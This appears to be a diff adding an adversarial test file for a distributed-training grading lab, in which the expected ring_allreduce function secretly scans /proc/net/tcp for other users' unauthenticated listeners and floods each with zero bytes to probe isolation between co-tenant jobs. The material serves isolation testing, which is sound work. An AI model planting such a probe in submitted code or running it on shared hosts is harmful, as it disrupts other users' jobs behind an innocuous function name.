@@ -1,0 +1,68 @@
+"""An attacker graded beside another share on the same host. Rank 0 watches /proc/net/tcp and
+/proc/net/tcp6 (which show every user's sockets, with their owner's uid) for listeners of other
+users (a TCPStore, gloo's ports: they have no authentication) and tries to connect to each one
+and write into it. Then it says what it reached, by raising: "attack: reached N of M listeners
+of other users". On a lab host the packet filter keeps shares apart: N is 0, while M says it saw
+the other share's run (and the other share's verdict does not change)."""
+import os
+import socket
+import struct
+import time
+from pathlib import Path
+
+import torch.distributed as dist
+
+from lab.suite.exercises.ring_allreduce import allreduce  # noqa: F401  (the tutorial's: not what is tried here)
+
+WATCH = 12.0  # seconds to watch for the other share's listeners
+CONNECT = 1.5  # seconds for each connection attempt
+attacked = False
+
+
+def _listeners():
+    """(address, port, family) of each listening socket of another user (not root), by /proc/net/tcp*."""
+    me, found = os.getuid(), set()
+    for table, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
+        try:
+            lines = Path(table).read_text().splitlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            fields = line.split()
+            (address, port), state, uid = fields[1].split(":"), fields[3], int(fields[7])
+            if state == "0A" and uid not in (0, me):  # LISTEN
+                found.add((_address(address, family), int(port, 16), family))
+    return found
+
+
+def _address(hexed, family):
+    """/proc/net/tcp's address (host byte order, 32-bit words) as connect takes it; any: loopback."""
+    raw = b"".join(struct.pack("<I", int(hexed[i:i + 8], 16)) for i in range(0, len(hexed), 8))
+    if not any(raw):
+        return "127.0.0.1" if family == socket.AF_INET else "::1"
+    return socket.inet_ntop(family, raw)
+
+
+def _attack():
+    tried, reached, deadline = set(), 0, time.monotonic() + WATCH
+    while time.monotonic() < deadline:
+        for address, port, family in _listeners() - tried:
+            tried.add((address, port, family))
+            try:
+                with socket.socket(family, socket.SOCK_STREAM) as conn:
+                    conn.settimeout(CONNECT)
+                    conn.connect((address, port))
+                    conn.sendall(b"\x00" * 65536)  # what a store or gloo makes nothing good of
+                    reached += 1
+            except OSError:
+                pass
+        time.sleep(0.1)
+    raise RuntimeError(f"attack: reached {reached} of {len(tried)} listeners of other users")
+
+
+def ring_allreduce(tensor):
+    global attacked
+    if dist.get_rank() == 0 and not attacked:
+        attacked = True
+        _attack()
+    dist.all_reduce(tensor)
